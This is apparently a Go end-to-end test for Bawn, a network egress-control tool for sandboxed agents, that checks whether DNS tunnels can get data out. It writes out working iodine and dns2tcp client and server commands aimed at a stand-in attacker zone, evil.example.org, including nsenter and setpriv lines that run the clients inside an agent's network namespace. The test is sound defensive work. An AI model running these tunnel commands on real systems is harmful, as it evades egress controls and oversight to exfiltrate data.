// Copyright The Bawn Authors.
// SPDX-License-Identifier: Apache-2.0

package e2e_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"bawn/internal/world"
	"bawn/internal/world/operator"
)

// The zones of the attacker whose servers are tunnels, and what the servers say
// when a tunnel stands.
const (
	iodineZone  = "t.evil.example.org"
	dns2tcpZone = "d.evil.example.org"

	iodineStands  = "Version ok"              // the client, once the server has answered
	dns2tcpStands = "the attacker thanks you" // a page behind the tunnel
	dns2tcpKnown  = "Available connection"    // the client, once the server has answered
)

// tunnelServers starts the real servers of two tunnels through DNS on the
// attacker's machine, and makes the world's resolver ask them.
func (h *host) tunnelServers(t *testing.T) {
	t.Helper()
	conf := filepath.Join(t.TempDir(), "dns2tcpd.conf")
	text := "listen = " + world.TunnelAddr2 + "\nport = 53\ndomain = " + dns2tcpZone + "\nresources = web:127.0.0.1:9\n"
	if err := os.WriteFile(conf, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, argv := range [][]string{
		{"iodined", "-f", "-c", "-P", "pw", "-l", world.TunnelAddr, "10.99.0.1/24", iodineZone},
		{"dns2tcpd", "-F", "-f", conf},
	} {
		cmd := h.w.Attacker.Command(t.Context(), argv...)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cmd.Cancel(); _ = cmd.Wait() })
	}
	for zone, at := range map[string]string{iodineZone: world.TunnelAddr, dns2tcpZone: world.TunnelAddr2} {
		if err := h.w.DNS.Set("*."+zone, world.Answer{Ask: at}); err != nil {
			t.Fatal(err)
		}
	}
}

// dns2tcp is a shell line that fetches the page behind the tunnel, by way of the
// server at the address. The local port has to be free.
func dns2tcp(kind string, port int, server string) string {
	return fmt.Sprintf("{ timeout 12 dns2tcpc -r web -z %s -T %s -l %d %s & sleep 1; curl -s -m 6 --noproxy '*' http://127.0.0.1:%d/; kill $!; wait; } 2>&1",
		dns2tcpZone, kind, port, server, port)
}

// iodine is a shell line that runs the client until it has given up.
func iodine(device, options, server string) string {
	return fmt.Sprintf("timeout 50 iodine -f -r -L0 -I1 -d %s %s -P pw %s %s 2>&1", device, options, server, iodineZone)
}

// TestDNSTunnelsPassNotOneByte tries two tunnels with their real servers. First
// it shows that they work where nobody stops them: for a program of the host
// that can ask its resolver.
func TestDNSTunnelsPassNotOneByte(t *testing.T) {
	h := boot(t)
	h.tunnelServers(t)
	h.tunnelsWork(t)
	for name, rules := range map[string]string{
		"names that nothing allows": "",
		"names under a wildcard":    "      - host: \"*.evil.example.org\"\n",
	} {
		h.apply(t, strings.Replace(usual, "    rules:\n", "    rules:\n"+rules, 1))
		t.Run(name, h.tunnelsFail)
	}
}

// tunnelsWork is the control.
func (h *host) tunnelsWork(t *testing.T) {
	t.Helper()
	for _, kind := range []string{"TXT", "KEY"} {
		eventually(t, "dns2tcp with "+kind, func() bool {
			return strings.Contains(h.root(t, dns2tcp(kind, 2201, world.DNSAddr)).out, dns2tcpStands)
		})
	}
	r := h.root(t, "{ "+iodine("dns0", "", world.DNSAddr)+"; } & for i in $(seq 40); do sleep 1; ping -c 1 -W 1 10.99.0.1 && break; done; kill $(pidof iodine); wait")
	if !strings.Contains(r.out, iodineStands) || !strings.Contains(r.out, "1 received") {
		t.Fatalf("iodine does not work where nothing stops it:\n%s", r.out)
	}
	// The same as an account of the host, the way in which it is tried as an agent's
	// below: it may not set its address, but has spoken with the server by then.
	if r := h.root(t, asAccount(operator.Account, "", iodine("dns1", "-T TXT", world.DNSAddr))); !strings.Contains(r.out, iodineStands) {
		t.Fatalf("iodine does not work as an account of the host:\n%s", r.out)
	}
}

// asAccount is a shell line that runs another as an account, in the cgroups of
// the process pid where one is given. The client wants to be root and to have a
// device: it gets a user namespace in which it is, and a device of its own.
func asAccount(account, pid, line string) string {
	device := strings.Fields(line[strings.Index(line, " -d ")+4:])[0]
	join := ""
	if pid != "" {
		join = `while IFS=: read -r n c p; do
			case $c in "") d=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts) ;; *) d=$(awk -v c="/${c#name=}" '$3 == "cgroup" && substr($2, length($2) - length(c) + 1) == c { print $2; exit }' /proc/mounts) ;; esac
			test -z "$d" || echo $$ >"$d$p/cgroup.procs"
		done </proc/` + pid + "/cgroup; "
	}
	return "ip tuntap add dev " + device + " mode tun user $(id -u " + account + ") && { " + join +
		"setpriv --reuid=" + account + " --regid=" + account + " --clear-groups unshare -U -r sh -c '" + line + "'; ip link del " + device + "; }"
}

// tunnelsFail tries everything from both agents' places and looks at what came to
// the attacker, and to the resolver of the world, which should be nothing.
func (h *host) tunnelsFail(t *testing.T) {
	for _, forget := range []func() error{h.w.Attacker.Forget, h.w.DNS.Forget, h.w.ForgetWire} {
		if err := forget(); err != nil {
			t.Fatal(err)
		}
	}
	before := len(h.deniedQuestions(t))
	var tries sync.WaitGroup
	for placement, agent := range placements() {
		s := h.shell(t, agent)
		defer s.end()
		lines := iodineIn(placement, "bawn-"+agent, h.processOf(t, agent))
		tries.Go(func() {
			out, ok := s.try(together(dns2tcpAs(placement)))
			if !ok || strings.Contains(out, dns2tcpStands) || strings.Contains(out, dns2tcpKnown) || strings.Count(out, "Error requests.c") < 2 {
				t.Errorf("%s: dns2tcp as the agent:\n%s", placement, out)
			}
		})
		tries.Go(func() {
			out, err := h.w.Host.Command(t.Context(), "sh", "-c", together(lines)).CombinedOutput()
			if strings.Contains(string(out), iodineStands) || strings.Count(string(out), "iodine:") < len(lines) {
				t.Errorf("%s: iodine in the agent's place:\n%s%v", placement, out, err)
			}
		})
	}
	tries.Wait()
	if tried := len(h.deniedQuestions(t)) - before; tried < 10 {
		t.Errorf("%d questions came to Bawn and were denied", tried)
	}
	if found := h.evil(t); len(found) > 0 {
		t.Errorf("got out: %d packets, the first %s", len(found), found[0])
	}
	if queries := h.queries(t); len(queries) > 0 {
		t.Errorf("the resolver was asked %v", queries)
	}
	flows, err := h.w.Wire()
	if err != nil || len(flows) > 0 {
		t.Errorf("left the host: %v (%v)", flows, err)
	}
}

// deniedQuestions are the questions for names of the tunnels that Bawn refused.
func (h *host) deniedQuestions(t *testing.T) []operator.Record {
	t.Helper()
	return h.decisions(t, func(r operator.Record) bool {
		return r.Proto == "dns" && r.Verdict == "deny" && strings.HasSuffix(r.Host+r.Asked, ".evil.example.org")
	})
}

// dns2tcpAs are lines for the agent itself, which needs no right for them.
func dns2tcpAs(placement string) (lines []string) {
	servers := []string{world.DNSAddr, world.TunnelAddr2}
	if placement == "netns" {
		servers = append(servers, "198.18.0.1")
	}
	for i, server := range servers {
		for j, kind := range []string{"TXT", "KEY"} {
			lines = append(lines, dns2tcp(kind, 2210+2*i+j, server), "timeout 10 dns2tcpc -t 2 -T "+kind+" -z "+dns2tcpZone+" "+server+" 2>&1")
		}
	}
	return lines
}

// together runs lines at the same time and prints what they print.
func together(lines []string) string {
	return "{ " + strings.Join(lines, " & ") + " & wait; }"
}

// processOf finds a process of the agent's.
func (h *host) processOf(t *testing.T, agent string) string {
	t.Helper()
	pid := strings.TrimSpace(h.root(t, "pgrep -u bawn-"+agent+" -n").out)
	if pid == "" {
		t.Fatalf("no process of %s", agent)
	}
	return pid
}

// iodineIn are lines for root that run the client in the agent's network with
// rights that no agent has: in a namespace as root, in the host's network under
// the agent's account.
func iodineIn(placement, account, pid string) (lines []string) {
	if placement == "uid" {
		return []string{
			asAccount(account, pid, iodine("dns8", "-T TXT", world.DNSAddr)),
			asAccount(account, pid, iodine("dns9", "-T TXT", world.TunnelAddr)),
		}
	}
	for i, c := range []struct{ kind, server string }{
		{"NULL", "198.18.0.1"}, {"TXT", "198.18.0.1"}, {"A", "198.18.0.1"}, {"CNAME", "198.18.0.1"},
		{"TXT", world.DNSAddr}, {"TXT", world.TunnelAddr},
	} {
		lines = append(lines, "nsenter -t "+pid+" -n "+iodine(fmt.Sprintf("dns%d", i), "-T "+c.kind, c.server))
	}
	return lines
}
